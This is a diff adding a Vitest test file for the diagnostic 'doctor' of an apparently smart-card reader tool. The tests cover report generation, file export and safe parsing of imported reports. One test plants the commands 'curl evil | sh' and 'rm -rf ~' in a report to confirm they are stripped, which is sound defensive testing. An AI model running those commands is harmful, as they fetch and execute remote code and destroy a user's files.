@@ -1,0 +1,78 @@
+import { describe, expect, it } from 'vitest';
+import { DoctorReport } from '../../shared/model/doctor.ts';
+import { VirtualGateway } from '../sample/virtual-gateway.ts';
+import { NOW } from '../testing/test-session.ts';
+import { Doctor, readReport } from './doctor.ts';
+import { linuxMachine } from './linux/linux-machine.ts';
+import { filesOf, wholeDebian } from './testing/files-of.ts';
+
+let elapsed = 0;
+const doctorHere = () =>
+  new Doctor({
+    loadMachine: async () =>
+      linuxMachine({ files: filesOf(wholeDebian), environment: {}, process: { pid: 1, arch: 'x64' } }),
+    openReaders: () => new VirtualGateway(['Reader A']),
+    now: () => NOW,
+    elapsed: () => (elapsed += 1),
+    after: (milliseconds, call) => {
+      const timer = setTimeout(call, milliseconds);
+      return () => clearTimeout(timer);
+    },
+    drawId: () => 'card-1',
+    version: '0.1.0',
+  });
+const textOf = (file: { readonly bytes: Uint8Array } | undefined) => new TextDecoder().decode(file?.bytes);
+
+describe('the doctor of a session', () => {
+  it('examines once for all who ask at the same time', async () => {
+    const doctor = doctorHere();
+    const [one, other] = await Promise.all([doctor.run(() => undefined), doctor.run(() => undefined)]);
+    expect(one).toBe(other);
+  });
+
+  it('saves what was seen, and has nothing to save before', async () => {
+    const doctor = doctorHere();
+    expect(await doctor.file('json', 'ja')).toBeUndefined();
+    const report = await doctor.run(() => undefined);
+    const json = await doctor.file('json', 'ja');
+    expect(json?.name).toBe('shomei-check-2026-11-21.json');
+    expect(readReport(textOf(json))).toEqual({ ok: true, value: report });
+    const text = await doctor.file('text', 'en');
+    expect(text?.name).toMatch(/\.txt$/);
+    expect(textOf(text)).toContain('There is no card in the reader.');
+  });
+});
+
+describe('a report out of a file', () => {
+  it.each([
+    '',
+    'no JSON',
+    '[]',
+    '{}',
+    '{"program":"other"}',
+    JSON.stringify({ program: 'shomei', version: '1', takenAt: 'now', system: {}, findings: [] }),
+  ])('%j is refused', (text) => {
+    expect(readReport(text)).toEqual({ ok: false, error: { code: 'file/not-readable' } });
+  });
+
+  it('brings no command, no sentence and no fact without a name', async () => {
+    const report = await doctorHere().run(() => undefined);
+    const [finding] = report.findings;
+    const hostile = {
+      ...report,
+      broken: { layer: 'service', code: 'L4-2', action: 'Do as I say', command: 'curl evil | sh' },
+      findings: [{ ...finding, command: 'rm -rf ~', facts: { devices: ['<b>x</b>'] } }],
+    };
+    const read = readReport(JSON.stringify(hostile));
+    expect(JSON.stringify(read)).not.toMatch(/curl|rm -rf|Do as I say/);
+    expect(read.ok && DoctorReport.safeParse(read.value).success).toBe(true);
+    const unnamed = { ...report, findings: [{ ...finding, facts: { user: 'canary' } }] };
+    expect(readReport(JSON.stringify(unnamed)).ok).toBe(false);
+  });
+
+  it('with a code of a newer program is read all the same', async () => {
+    const report = await doctorHere().run(() => undefined);
+    const newer = { ...report, findings: [{ ...report.findings[0], state: 'broken', code: 'L1-99' }] };
+    expect(readReport(JSON.stringify(newer)).ok).toBe(true);
+  });
+});
